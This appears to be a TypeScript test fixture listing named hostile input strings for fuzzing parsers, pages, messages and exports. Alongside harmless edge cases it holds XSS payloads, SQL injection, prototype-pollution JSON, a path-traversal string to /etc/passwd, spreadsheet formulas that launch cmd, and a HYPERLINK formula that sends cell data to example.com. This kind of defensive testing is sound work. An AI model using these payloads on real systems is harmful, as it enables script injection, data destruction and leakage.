/**
 * Texts that an author of a ticket, a command or a comment can put into any text field, each with a name. Tests put
 * every text into every parser, page, message and export.
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  // Dates and times that are invalid, or that few calendars support.
  "an invalid time": "Review 2026-99-99T99:99Z",
  "a time with an invalid hour": "2026-06-15T25:61:61Z",
  "a time with an invalid offset": "2026-06-15T08:00:00+99:99",
  "a time on an invalid day": "2026-02-30T08:00:00Z",
  "an invalid day": "2026-02-30",
  "a day of an invalid month": "2026-13-45",
  "an invalid local time": "2026-99-99T99:99",
  "the year 9999": "9999-12-31T23:59:59.999Z",
  "the last day of the year 9999": "9999-12-31",
  "the year 0": "0000-01-01T00:00:00Z",
  "the first day of the year 1": "0001-01-01",
  "a time beyond the range of dates": "+275760-09-13T00:00:00.001Z",
  "a number beyond the range of dates": "8640000000000001",
  "many invalid times": "2026-99-99T99:99Z ".repeat(200),

  // Characters that are invisible, that change the direction of writing, or that are half of a surrogate pair.
  "a NUL": "Review\u0000of Payroll",
  controls: "Review\u0007\u0008\u001b[31mred\u007f\u0085",
  "a lone high surrogate": "Review \ud83d",
  "a lone low surrogate": "\udc00 Review",
  "text written from right to left": "Review \u202egnp.exe\u2066\u2069",
  "invisible characters": "Re\u200bview\ufeff\u00ad\u2060\u180e",
  "invisible tags": "Review \u{e0041}\u{e0042}\u{e007f}",
  "line separators": "Review\u2028of\u2029Payroll",
  "many marks on one letter": `Z${"\u0301".repeat(500)}`,
  "families of four": "👨‍👩‍👧‍👦".repeat(100),
  "letters that look like others": "Аdа Ріке",
  "only spaces": " \u00a0\u3000\t",
  "line breaks": "Review\r\nof\rPayroll\n\n\nX-Injected: yes",

  // Markup of pages, chats and tickets.
  HTML: `<script>alert(1)</script><img src=x onerror=alert(1)>`,
  "the end of an attribute": `"'><svg/onload=alert(1)>`,
  "the end of a comment, of a style, of a script": "--></style></script><!--<plaintext>",
  "HTML that is escaped": "&lt;b&gt;&amp;lt;&#60;&#x3c;&quot;&nbsp;",
  Markdown:
    "# *Review* _of_ `Payroll` [click](javascript:alert(1)) ![x](https://example.com/x.png) ~~no~~ > 1. - |a|",
  mrkdwn:
    "<!channel> <!here> <@U0HUGO> <#C0OPS|ops> <https://example.com|Payroll> *bold* ~no~ `code` ```block```",
  "a date of Slack": "<!date^99999999999999999999^{date_num} {time_secs}|never>",
  "a date of Teams": "{{DATE(2026-99-99T99:99:99Z, SHORT)}} {{TIME(never)}}",
  "markup of Jira": "{code}h1. Review{code} [~accountid:1] {{monospace}} |table| !image.png!",
  "the heading of an issue form": "### Connector\n\n_No response_\n\n### Owner\n\nada@example.com",

  // Names of properties that every object has, and text that is data elsewhere.
  "the name of a prototype": "__proto__",
  "the name of a constructor": "constructor",
  "the name of a method": "toString",
  "the name of a getter": "__defineGetter__",
  JSON: `{"__proto__":{"polluted":true},"a":[1e400,null],"b":"\\ud800"}`,
  "JSON, cut": `{"a":"`,
  SQL: "'; DROP TABLE events; --",
  "wildcards of SQL": "%_\\%' OR 1=1 --",
  "patterns of replacement": "$& $1 $` $' $$ \\1 \\u0000",
  "a template": `\${7*7} {{7*7}} <%= 7*7 %> #{7*7} %s %d %n`,
  "a regular expression": "(a+)+$ [",
  "an invalid number": "NaN",
  "a number that is too large": "1e999",
  "words for nothing": "undefined null true",

  // Text that a spreadsheet reads as a formula, and text that ends a cell.
  "a formula": `=HYPERLINK("https://example.com/?"&A1,"Payroll")`,
  "a formula that begins with a plus": "+1+cmd|' /C calc'!A0",
  "a formula that begins with a minus": "-2+3+cmd|' /C calc'!A0",
  "a formula that begins with an at": "@SUM(1+9)*cmd|' /C calc'!A0",
  "a formula in full width": "＝1+1",
  "a plus in full width": "＋1+1",
  "a minus in full width": "－1+1",
  "an at in full width": "＠SUM(1)",
  "a formula after a tab": "\t=1+1",
  "a formula after a carriage return": "\r=1+1",
  "a formula after a line feed": "\n=1+1",
  "a formula after a space": " =1+1",
  "a formula after invisible characters": "\ufeff\u200b=1+1",
  "a formula after a semicolon": "Payroll;=1+1",
  "a formula after a comma": "Payroll,=1+1",
  "a formula after a quote": `Payroll",=1+1,"`,
  "a formula after a tab within": "Payroll\t=1+1",
  "a formula after a line feed within": "Payroll\n=1+1",

  // URLs and names of files.
  "an address of a script": "javascript:alert(document.domain)",
  "an address of data": "data:text/html,<script>alert(1)</script>",
  "an address without a scheme": "//example.com/%2e%2e/?a=b#c",
  "an address with a name and a password": "https://ada:secret@example.com/",
  "an invalid address": "https://[::1",
  "a path out of its folder": "../../etc/passwd%00.png",
  "invalid percent signs": "%E0%A4%A %zz %",
  "an invalid email": `"ada@example.com"@<example.com>`,
  "an email with half a character": "\ud83d@example.com",

  // Extreme sizes.
  nothing: "",
  "a very long word": "x".repeat(100_000),
  "very many words": "Review of Payroll ".repeat(5_000),
  "very many lines": "a\n".repeat(20_000),
  "very many brackets": "[".repeat(20_000),
  "very many astral characters": "𝒳".repeat(20_000),
};
